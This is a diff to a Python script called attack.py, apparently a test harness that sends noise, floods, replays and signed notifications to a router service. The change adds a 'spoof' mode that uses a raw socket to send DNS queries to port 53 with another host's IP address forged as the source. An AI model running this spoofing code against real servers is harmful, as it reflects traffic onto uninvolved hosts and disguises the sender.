@@ -5,6 +5,7 @@
     attack.py noise ROUTER COUNT               datagrams of random octets, some shaped like messages
     attack.py v2 ROUTER GN HOST SECRET         a signed notification; prints the response code
     attack.py flood ROUTER COUNT HOST SECRET   signed notifications for COUNT askers; counts the replies
+    attack.py spoof SERVER GN HOST COUNT       DNS questions with GN's address as source
     attack.py replay ROUTER GN HOST SECRET     the same signed octets three times, from two ports
 """
 import base64, os, random, socket, struct, sys
@@ -52,6 +53,14 @@ elif verb == "noise":
         elif len(noise) > 12 and random.random() < 0.7:
             noise[2:12] = b"\x28\0\0\x01\0\0\0\x01\0" + bytes([random.randint(0, 2)])
         s.sendto(bytes(noise), (router, 20053))
+elif verb == "spoof":
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for n in range(int(arguments[4])):
+        query = struct.pack("!HHHHHH", n, 0x100, 1, 0, 0, 0) + lib["name_to_wire"](arguments[3]) + b"\0\1\0\1"
+        udp = struct.pack("!HHHH", 4000 + n, 53, 8 + len(query), 0) + query
+        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), n, 0, 64, 17, 0,
+                             socket.inet_aton(arguments[2]), socket.inet_aton(router))
+        raw.sendto(header + udp, (router, 0))
 elif verb == "v2":
     print(code(send(router, signed(*arguments[2:5]))))
 elif verb == "replay":
